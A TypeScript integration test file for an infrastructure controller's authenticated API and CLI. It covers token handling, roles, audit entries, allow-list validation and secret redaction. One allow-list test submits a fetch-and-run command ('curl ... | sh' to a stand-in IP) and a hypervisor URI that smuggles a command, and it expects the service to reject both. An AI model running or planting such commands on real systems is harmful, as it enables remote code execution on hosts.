/**
 * The authenticated API as an operator meets it: the first start writes the admin token to a 0600
 * file and logs only where; `3rc status` finds that file from the demo's folder; tokens are created,
 * listed and revoked through the CLI against the running service; roles and allow-lists refuse;
 * and neither the captured log nor any API answer contains a token or a configured secret.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { defaultDemoConfig } from '../../../src/config/index.js';
import { realClock } from '../../../src/env/real/clock.js';
import { startService, type RunningService } from '../../../src/service/index.js';
import { createLogger } from '../../../src/service/logger.js';
import { freeTcpPort } from '../../lab/peers/common.js';
import { run } from '../../unit/cli/run-cli.js';

const BMC_SECRET = 'bmc-Secret-7f3a9c';


describe('authenticated API on the demo service', () => {
  const dir = mkdtempSync(join(tmpdir(), '3rc-auth-'));
  const logs: string[] = [];
  const answers: string[] = [];
  let service: RunningService;
  let admin = '';
  const call = async (path: string, token: string, init: RequestInit = {}) => {
    const res = await fetch(`${service.url}${path}`, {
      ...init,
      headers: { authorization: `Bearer ${token}`, ...(init.body ? { 'content-type': 'application/json' } : {}) },
      signal: AbortSignal.timeout(10_000),
    });
    const text = await res.text();
    answers.push(text);
    return { status: res.status, text };
  };

  before(async () => {
    process.env.RRC_LAB_BMC_PASSWORD = BMC_SECRET;
    const config = defaultDemoConfig();
    config.store.url = `file:${join(dir, '.3rc', '3rc.db')}`;
    config.demo = null;
    const logger = createLogger({ level: 'debug', clock: realClock, destination: { write: (line: string) => void logs.push(line) } });
    service = await startService(config, { listen: { host: '127.0.0.1', port: 0 }, logger });
  });
  after(async () => {
    await service.stop();
    delete process.env.RRC_LAB_BMC_PASSWORD;
    rmSync(dir, { recursive: true, force: true });
  });

  it('first start: admin token beside the database, mode 0600, the log names the file only', () => {
    const file = join(dir, '.3rc', 'admin-token');
    assert.equal(statSync(file).mode & 0o777, 0o600);
    admin = readFileSync(file, 'utf8').trim();
    assert.match(admin, /^3rc_[A-Za-z0-9_-]{43}$/);
    assert.ok(logs.some((l) => l.includes(file)), 'the log says where the token is');
  });

  it('`3rc status` in the demo folder finds the token file; elsewhere it is refused with a hint', async () => {
    const ok = await run(['status'], service.url, {}, dir);
    assert.equal(ok.code, 0, ok.stderr);
    assert.match(ok.stdout, /host:spare1/);
    const none = await run(['status'], service.url, {}, tmpdir());
    assert.equal(none.code, 1);
    assert.match(none.stderr, /^3rc: RRC_ERR_UNAUTHENTICATED: .*RRC_TOKEN/);
  });

  it('token create, list, revoke through the CLI; the role is enforced; several URLs: the first that answers', async () => {
    const dead = `http://127.0.0.1:${await freeTcpPort()}`;
    const created = await run(['token', 'create', '--role', 'viewer', '--name', 'bob'], `${dead},${service.url}`, { RRC_TOKEN: admin });
    assert.equal(created.code, 0, created.stderr);
    const bob = created.stdout.trim();
    assert.match(bob, /^3rc_/);
    answers.push(created.stdout);

    const list = await run(['token', 'list', '--json'], service.url, { RRC_TOKEN: admin });
    assert.deepEqual((JSON.parse(list.stdout) as Array<{ name: string; role: string }>).map((t) => [t.name, t.role]), [['admin', 'admin'], ['bob', 'viewer']]);
    assert.doesNotMatch(list.stdout, /3rc_/);

    assert.equal((await call('/status', bob)).status, 200);
    const refused = await call('/targets/host:hv1/maintenance', bob, { method: 'POST', body: JSON.stringify({ on: true }) });
    assert.equal(refused.status, 403);
    assert.equal(service.controller.targetStatus('host:hv1')?.maintenance, false);

    const revoked = await run(['token', 'revoke', 'bob'], service.url, { RRC_TOKEN: admin });
    assert.equal(revoked.code, 0, revoked.stderr);
    assert.equal((await call('/status', bob)).status, 401);

    const audit = await run(['audit', '--actor', 'bob', '--outcome', 'refused', '--json'], service.url, { RRC_TOKEN: admin });
    const entries = JSON.parse(audit.stdout) as Array<{ action: string; target: string; details: { status: number } }>;
    assert.deepEqual(entries.map((e) => [e.action, e.target, e.details.status]), [['POST /targets/:target/maintenance', 'host:hv1', 403]]);
  });

  it('inventory fields outside the allow-lists are 400 naming the field, and nothing is added', async () => {
    const vm = {
      name: 'evil1', uuid: '11111111-2222-4333-8444-555555555555', homeHost: 'hv1', resources: { cores: 1, ramGb: 1, diskGb: 1 },
      serviceCheck: { kind: 'tcp', port: 80, restartCommand: 'curl http://198.18.9.9/x | sh' },
    };
    const res = await call('/vms', admin, { method: 'POST', body: JSON.stringify(vm) });
    assert.equal(res.status, 400, res.text);
    assert.match(res.text, /body\.serviceCheck\.restartCommand: not in api\.allow\.restartCommands/);
    const host = {
      name: 'hv9', role: 'primary', macs: ['52:54:00:99:00:01'], ip: '10.10.0.99', capacity: { cores: 8, ramGb: 32, diskTb: 1 },
      hypervisorUri: 'qemu+ext:///system?command=/tmp/x', bmc: { address: '10.10.1.99', user: 'admin', secretRef: 'not-declared' },
    };
    const bad = await call('/hosts', admin, { method: 'POST', body: JSON.stringify(host) });
    assert.equal(bad.status, 400);
    assert.match(bad.text, /body\.hypervisorUri: must start with one of/);
    assert.match(bad.text, /body\.bmc\.secretRef: secret \\"not-declared\\" is not declared/);
    assert.equal(await service.store.getVm('evil1'), null);
    assert.equal(await service.store.getHost('hv9'), null);
  });

  it('--db with a password is refused before anything starts, without echoing it', async () => {
    const r = await run(['controller', '--db', 'postgresql://rrc:hunter2pass@127.0.0.1/rrc'], service.url);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /RRC_DB_URL or a file given with --db-file/);
    assert.doesNotMatch(r.stderr, /hunter2pass/);
  });

  it('no token and no configured secret in the log or in any API answer', async () => {
    for (const path of ['/hosts', '/vms', '/audit?limit=1000', '/tokens', '/status']) await call(path, admin);
    const created = await call('/tokens', admin, { method: 'POST', body: JSON.stringify({ name: 'carol', role: 'operator' }) });
    const carol = (JSON.parse(created.text) as { token: string }).token;
    answers.pop(); // the one answer that carries a token on purpose
    await call('/targets/host:hv1/maintenance', carol, { method: 'POST', body: JSON.stringify({ on: true, token: carol }) });
    await call('/status', 'wrong-token');
    const secrets = [admin, carol, BMC_SECRET];
    const haystack = [...logs, ...answers].join('\n');
    for (const s of secrets) assert.ok(!haystack.includes(s), `a secret (${s.slice(0, 6)}...) leaked`);
    assert.ok(logs.length > 3 && answers.length > 5, 'something was captured');
  });
});
